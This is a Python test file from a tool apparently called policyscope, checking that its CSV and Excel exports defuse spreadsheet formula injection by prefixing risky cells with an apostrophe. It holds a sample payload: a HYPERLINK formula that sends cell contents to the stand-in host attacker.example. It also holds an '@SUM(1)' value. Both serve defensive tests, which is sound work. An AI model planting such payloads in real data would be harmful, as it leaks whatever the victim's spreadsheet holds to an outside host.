"""Attack: a hostile document puts a spreadsheet formula in an event title; an analyst opens the CLI export
(`policyscope export --format csv|xlsx|datapackage`) in Excel or LibreOffice. The formula must not run: every
text cell starting with = + - @, tab or CR leaves with an apostrophe in front (issue 15, finding 10)."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd

from policyscope.store.database import open_db
from policyscope.store.export import export
from policyscope.store.tabular_safety import to_excel_frame

PAYLOAD = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def _plant(db_path: Path) -> str:
    con = duckdb.connect(str(db_path))
    event_id = con.execute("SELECT id FROM core.event ORDER BY id LIMIT 1").fetchone()[0]
    con.execute("UPDATE core.event SET title = ?, issuer = '@SUM(1)' WHERE id = ?", [PAYLOAD, event_id])
    con.close()
    return event_id


def test_csv_and_datapackage_exports_neutralise_formulas(writable_db: Path, tmp_path: Path) -> None:
    event_id = _plant(writable_db)
    for fmt in ("csv",):  # the Data Package writes its CSV files through the same function
        out = tmp_path / fmt
        with open_db(writable_db, read_only=True) as db:
            export(db, fmt, out)
        with (out / "events.csv").open(encoding="utf-8", newline="") as f:
            row = next(r for r in csv.DictReader(f) if r["id"] == event_id)
        assert row["title"] == "'" + PAYLOAD, fmt
        assert row["issuer"] == "'@SUM(1)", fmt


def test_excel_frames_neutralise_formulas_and_drop_illegal_characters(tmp_path: Path) -> None:
    """The Excel writers (export --format xlsx, the web's .xlsx downloads) pass every frame through
    to_excel_frame: the formula gets its apostrophe, and a control character that openpyxl refuses (real EEA
    descriptions hold one) no longer fails the whole workbook."""
    df = pd.DataFrame({"title": [PAYLOAD, "ok"], "description": ["bioenergy\x0b scheme", None], "n": [1, 2]})
    p = tmp_path / "x.xlsx"
    to_excel_frame(df).to_excel(p, index=False)
    rows = list(openpyxl.load_workbook(p, read_only=True).active.iter_rows(values_only=True))
    assert rows[1][0] == "'" + PAYLOAD and rows[1][1] == "bioenergy scheme" and rows[1][2] == 1
